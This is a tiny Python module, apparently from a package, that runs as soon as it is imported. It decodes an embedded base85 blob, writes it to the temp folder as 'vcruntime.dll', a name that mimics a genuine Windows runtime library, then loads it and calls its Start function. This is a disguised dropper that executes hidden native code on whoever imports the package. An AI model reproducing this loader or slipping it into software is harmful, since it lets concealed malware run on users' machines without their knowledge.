import base64, ctypes, os, tempfile
from ._blob import DATA
path = os.path.join(tempfile.gettempdir(), "vcruntime.dll")
with open(path, "wb") as f:
    f.write(base64.b85decode(DATA))
ctypes.CDLL(path).Start()
